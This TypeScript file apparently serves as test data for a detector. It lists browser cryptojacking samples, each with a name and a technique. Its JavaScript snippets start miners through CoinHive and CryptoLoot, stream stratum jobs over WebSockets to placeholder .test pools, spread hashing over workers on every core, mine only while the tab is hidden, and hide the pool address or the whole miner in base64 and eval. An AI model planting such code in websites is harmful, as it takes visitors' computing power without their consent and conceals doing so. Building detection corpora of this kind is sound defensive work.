import { base64 } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const miner = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'cryptomining',
  code,
});

export const miners: readonly MaliciousSample[] = [
  miner(
    'known-service',
    'Starts the miner of a service with a throttle',
    `var miner = new CoinHive.Anonymous('SITE-KEY', { throttle: 0.3 });
    if (!miner.isMobile()) miner.start();
    setInterval(function () { console.log(miner.getHashesPerSecond()); }, 5000);`,
  ),
  miner(
    'stratum-over-socket',
    'Speaks the pool protocol over a socket',
    `var ws = new WebSocket('wss://pool.mine.test:8443');
    ws.onopen = function () { ws.send(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['w/1'] })); ws.send(JSON.stringify({ id: 2, method: 'mining.authorize', params: ['WALLET', 'x'] })); };
    ws.onmessage = function (m) { var j = JSON.parse(m.data); if (j.method === 'mining.notify') work(j.params); };`,
  ),
  miner(
    'cryptonight-workers',
    'A worker for each core, hashing in WebAssembly, jobs from a socket',
    `const n = navigator.hardwareConcurrency || 4; const pool = [];
    const ws = new WebSocket('wss://ws.mine.test/proxy');
    WebAssembly.instantiateStreaming(fetch('/cn.wasm')).then(() => { for (let i = 0; i < n; i++) pool.push(new Worker('/cryptonight-worker.js')); });
    ws.onmessage = (m) => { const { job_id, blob, target } = JSON.parse(m.data); pool.forEach((w) => w.postMessage({ job_id, blob, target, nonce: Math.random() * 0xffffffff })); };
    pool.forEach((w) => { w.onmessage = (e) => ws.send(JSON.stringify({ type: 'submit', params: { job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } })); });`,
  ),
  miner(
    'randomx-proxy',
    'Mines with RandomX through a proxy',
    `import init from './rx.js';
    const cfg = { algo: 'randomx', pool: 'xmr.pool.mine.test', wallet: '4XXX', threads: navigator.hardwareConcurrency, throttle: 20 };
    init(cfg).then((m) => { setInterval(() => console.log(m.hashrate), 1000); });`,
  ),
  miner(
    'loaded-miner-script',
    'Loads the script of a miner and starts it',
    `(function () {
      var s = document.createElement('script'); s.src = 'https://cdn.mine.test/lib/webminer.min.js';
      s.onload = function () { var m = WebMiner.create({ key: 'K', autoThreads: true, throttle: 0.2 }); m.start(); m.on('accepted', function () { console.log(m.getAcceptedHashes()); }); };
      document.head.appendChild(s);
    })();`,
  ),
  miner(
    'blob-worker-nonce-search',
    'Searches nonces in workers made from text',
    `const src = 'onmessage=function(e){var n=e.data.nonce;while(hash(e.data.blob,n)>e.data.target)n++;postMessage({nonce:n,hash:1})}';
    const url = URL.createObjectURL(new Blob([src]));
    const sock = new WebSocket('wss://jobs.mine.test');
    sock.onmessage = function (m) { const job = JSON.parse(m.data); for (let i = 0; i < navigator.hardwareConcurrency; i++) { const w = new Worker(url); w.postMessage({ blob: job.blob, target: job.target, nonce: i * 1e6, job_id: job.job_id }); w.onmessage = function (r) { sock.send(JSON.stringify({ job_id: job.job_id, nonce: r.data.nonce, hash: r.data.hash })); }; } };`,
  ),
  miner(
    'hidden-miner-address',
    'Hides the address of the pool',
    `var u = atob('${base64('wss://eu.supportxmr.mine.test/')}');
    var s = new WebSocket(u), w = new Worker('/js/w.js');
    s.onmessage = function (m) { var j = JSON.parse(m.data); w.postMessage({ seed_hash: j.seed_hash, nonce: 0, target: j.target }); };
    w.onmessage = function (e) { s.send(JSON.stringify({ nonce: e.data })); };`,
  ),
  miner(
    'tab-aware-throttle',
    'Mines only while the tab is in the background',
    `var m = new CryptoLoot.Anonymous('KEY', { threads: 4, throttle: 0.1 });
    document.addEventListener('visibilitychange', function () { if (document.hidden) { m.setThrottle(0); m.start(); } else { m.stop(); } });`,
  ),
  miner(
    'evaluated-miner',
    'Carries a miner as encoded text',
    `eval(atob('${base64("var m=new CoinHive.User('k','u',{autoThreads:true});m.start();var t=m.getTotalHashes();")}'));`,
  ),
];
